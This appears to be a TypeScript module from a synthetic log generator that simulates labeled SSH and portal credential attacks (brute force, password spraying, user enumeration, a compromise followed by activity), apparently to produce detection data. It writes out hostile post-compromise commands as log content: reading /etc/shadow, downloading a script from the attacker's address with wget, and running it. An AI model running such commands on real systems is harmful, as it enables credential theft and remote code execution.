/**
 * Credential attacks: brute force, password spraying, user enumeration and a credential
 * compromise (failures, then a success, then activity). Every line they cause is labeled.
 */
import { portalLogin } from '../records'
import { chance, intBetween, pick, sample } from '../sampling'
import { failedConnection, sshSession, sudoRun } from '../sshActivity'
import { type AttackContext, HOUR, MINUTE, serverAccounts, anyStart, attackerIp, internetHosts, sized } from './context'

const DICTIONARY = [
  'admin', 'test', 'user', 'ubuntu', 'oracle', 'git', 'pi', 'ftpuser', 'guest', 'support', 'mysql', 'www', 'tomcat',
  'hadoop', 'dev', 'minecraft', 'steam', 'teamspeak', 'jenkins', 'nagios', 'zabbix', 'elastic', 'kafka', 'redis', 'odoo',
  'sales', 'info', 'office', 'service', 'operator', 'manager', 'student', 'teacher', 'web', 'webmaster', 'postfix', 'mail',
  'ftp', 'vagrant', 'centos', 'debian', 'fedora', 'admin1', 'administrator', 'sysadmin', 'root1', 'test1', 'test2', 'user1',
  'user2', 'demo', 'default', 'backup1', 'db2inst1', 'ts3', 'vnc', 'xbmc', 'squid', 'nginx', 'apache', 'docker', 'gitlab',
  'sonar', 'wildfly', 'jboss', 'sshd', 'uucp', 'tester', 'prueba', 'usuario', 'hdfs', 'spark', 'flink', 'solr', 'ec2-user',
]

/** One address, hundreds of password failures against one or two accounts, within minutes. */
export function bruteForce(ctx: AttackContext): void {
  const { world, em, rng, label } = ctx
  const hosts = internetHosts(world)
  const host = hosts[ctx.index % hosts.length]
  const { ip } = attackerIp(ctx)
  const local = serverAccounts(world)
  const targets: { user: string; invalid: boolean }[] = [{ user: 'root', invalid: false }]
  if (ctx.index % 3 === 1) targets.push({ user: 'admin', invalid: true })
  if (ctx.index % 3 === 2 && local.length > 0) targets.push({ user: pick(rng, local).name, invalid: false })
  let remaining = sized(ctx, { tiny: [12, 30], small: [40, 120], normal: [200, 600], huge: [2000, 5000] })
  let t = anyStart(ctx, 2 * HOUR)
  const collapse = chance(rng, 0.5)
  while (remaining > 0) {
    const attempts = Math.min(remaining, chance(rng, 0.7) ? 6 : intBetween(rng, 1, 5))
    const target = pick(rng, targets)
    t = failedConnection(em, rng, { host, ip, ...target, attempts, start: t, label, gap: [0.8, 2.5], collapseRepeats: collapse })
    t += 300 + rng.next() * 2500
    remaining -= attempts
  }
}

/** One address, one or two tries for each of many accounts, slowly (over SSH or the portal). */
export function passwordSpraying(ctx: AttackContext): void {
  const { world, em, rng, label } = ctx
  const attacker = attackerIp(ctx)
  const overPortal = ctx.index % 2 === 1
  const count = sized(ctx, { tiny: [8, 12], small: [12, 25], normal: [25, 80], huge: [120, 250] })
  let t = anyStart(ctx, 6 * HOUR)
  if (overPortal) {
    const names = sample(rng, world.users, Math.min(world.users.length, count)).map((u) => u.name)
    const geo = { country: attacker.country.code, lat: attacker.country.lat, lon: attacker.country.lon }
    const ua = 'python-requests/2.31.0'
    for (const name of names) {
      for (let k = 0, n = chance(rng, 0.7) ? 1 : 2; k < n; k++) {
        em.portal(t, portalLogin(t, name, attacker.ip, false, geo, ua), label)
        t += 2000 + rng.next() * 6000
      }
      t += 30_000 + rng.next() * 150_000
    }
    return
  }
  const hosts = internetHosts(world)
  const host = hosts[ctx.index % hosts.length]
  const local = new Set(serverAccounts(world).map((u) => u.name))
  const directory = world.users.map((u) => u.name)
  const names = [...sample(rng, directory, Math.min(directory.length, Math.ceil(count * 0.6))), ...sample(rng, DICTIONARY, Math.floor(count * 0.4))]
  rng.shuffle(names)
  for (const name of names) {
    const attempts = chance(rng, 0.7) ? 1 : 2
    t = failedConnection(em, rng, { host, ip: attacker.ip, user: name, invalid: !local.has(name), attempts, start: t, label, gap: [2, 6] })
    t += 60_000 + rng.next() * 240_000
  }
}

/** One address trying many names that do not exist, quickly (sometimes without a password). */
export function userEnumeration(ctx: AttackContext): void {
  const { world, em, rng, label } = ctx
  const hosts = internetHosts(world)
  const host = hosts[(ctx.index + 1) % hosts.length]
  const { ip } = attackerIp(ctx)
  const local = new Set(serverAccounts(world).map((u) => u.name))
  const pool = DICTIONARY.filter((n) => !local.has(n))
  const names = sample(rng, pool, sized(ctx, { tiny: [8, 12], small: [15, 30], normal: [40, pool.length], huge: [pool.length, pool.length] }))
  for (let i = 0, extra = sized(ctx, { tiny: [0, 2], small: [0, 10], normal: [0, 60], huge: [300, 600] }); i < extra; i++) names.push(`${pick(rng, pool)}${intBetween(rng, 1, 99)}`)
  names.splice(Math.min(5, names.length), 0, ...ctx.extraNames)
  let t = anyStart(ctx, HOUR)
  const probeOnly = chance(rng, 0.5)
  for (const name of names) {
    // The extra (hostile) names always get a password try, so they show as failed logins.
    const attempts = ctx.extraNames.includes(name) ? 1 : probeOnly || chance(rng, 0.3) ? 0 : 1
    t = failedConnection(em, rng, { host, ip, user: name, invalid: true, attempts, start: t, label, gap: [1, 2] })
    t += 300 + rng.next() * 2500
  }
}

/** Password failures against one account, then a success from the same address, then activity. */
export function credentialCompromise(ctx: AttackContext): void {
  const { world, em, rng, label } = ctx
  const hosts = internetHosts(world)
  const candidates = world.users.filter((u) => u.sshMethod === 'password' && hosts.some((h) => u.hostWeights[h.index] > 0))
  const victim = candidates.length > 0 ? candidates[ctx.index % candidates.length] : world.users[1]
  const host = hosts.find((h) => victim.hostWeights[h.index] > 0) ?? hosts[0]
  const { ip } = attackerIp(ctx)
  let remaining = sized(ctx, { tiny: [5, 7], small: [5, 12], normal: [5, 30], huge: [100, 300] })
  let t = anyStart(ctx, 3 * HOUR)
  while (remaining > 0) {
    const attempts = Math.min(remaining, intBetween(rng, 2, 6))
    t = failedConnection(em, rng, { host, ip, user: victim.name, invalid: false, attempts, start: t, label, gap: [2, 5] })
    t += 1000 + rng.next() * 20_000
    remaining -= attempts
  }
  const login = { host, user: victim.name, uid: victim.uid, ip, method: 'password' as const, keyLabel: victim.keyLabel, label }
  const first = sshSession(em, rng, { ...login, start: t + 5000, durationMs: 5 * MINUTE + rng.next() * 15 * MINUTE }, (s) => {
    if (victim.kind !== 'admin') return
    const who = { host, user: victim.name, uid: victim.uid, tty: s.tty, label }
    let tc = s.start + 40_000
    for (const command of ['/usr/bin/id', '/usr/bin/cat /etc/shadow', `/usr/bin/wget -q http://${ip}/x.sh -O /tmp/.x.sh`, '/bin/bash /tmp/.x.sh']) {
      tc = sudoRun(em, rng, who, tc, command) + 10_000 + rng.next() * 30_000
    }
  })
  // The attacker comes back with the password that worked.
  sshSession(em, rng, { ...login, start: first.end + 10 * MINUTE + rng.next() * 50 * MINUTE, durationMs: 2 * MINUTE + rng.next() * 10 * MINUTE })
}
